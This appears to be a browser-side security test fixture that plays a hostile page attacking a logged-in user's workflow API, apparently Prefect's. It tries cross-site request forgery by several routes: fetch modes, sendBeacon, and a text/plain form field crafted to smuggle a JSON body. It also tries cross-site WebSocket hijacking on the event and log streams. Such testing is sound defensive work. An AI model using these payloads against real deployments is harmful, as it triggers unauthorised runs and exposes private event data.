// What a page can try against an API whose user is logged in, in the same browser. Resolves to what it was told.
async (api, deployment) => {
  const url = `${api}/deployments/${deployment}/create_flow_run`;
  const body = JSON.stringify({ name: "hostile", parameters: { run: "hostile" } });
  const told = [];
  const kinds = [
    ["no-cors", { "Content-Type": "text/plain" }],
    ["no-cors", {}],
    ["cors", { "Content-Type": "text/plain" }],
    ["cors", { "Content-Type": "application/json" }],
  ];
  for (const [mode, headers] of kinds) {
    const asked = { method: "POST", mode, headers, body, credentials: "include" };
    told.push(await fetch(url, asked).then((r) => `${r.type} ${r.status}`, (e) => e.name));
  }
  navigator.sendBeacon(url, new Blob([body]));
  const frame = document.createElement("iframe");
  frame.name = "sink";
  const form = document.createElement("form");
  Object.assign(form, { action: url, method: "post", enctype: "text/plain", target: "sink" });
  const field = document.createElement("input");
  field.name = '{"name": "hostile", "parameters": {"run": "hostile"}, "idempotency_key": "';
  field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  form.submit();
  await new Promise((done) => { frame.onload = done; });
  for (const path of ["events/in", "events/out", "logs/out"]) {
    told.push(await new Promise((done) => {
      const socket = new WebSocket(`${api.replace("http", "ws")}/${path}`, ["prefect"]);
      socket.onopen = () => socket.send('{"type": "auth", "token": null}');
      socket.onmessage = (message) => done(`message ${message.data}`);
      socket.onclose = (end) => done(`closed ${end.code}`);
    }));
  }
  return told;
}
